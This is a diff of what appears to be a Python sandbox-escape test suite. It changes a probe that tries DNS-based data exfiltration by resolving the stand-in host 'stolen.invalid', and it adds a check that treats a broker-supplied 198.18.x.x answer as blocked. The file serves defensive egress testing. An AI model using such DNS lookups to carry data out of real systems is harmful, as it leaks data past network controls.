@@ -313,7 +313,10 @@ def asks_a_name_server(_: Facts) -> str:
 
     Allows: carrying data away in questions about names.
     """
-    return str(facility("socket").gethostbyname("stolen.invalid"))
+    address = str(facility("socket").gethostbyname("stolen.invalid"))
+    if address.startswith("198.18."):
+        raise Blocked(f"it is told {address}, which stands for whatever the broker will say")
+    return address
 
 
 @attack()
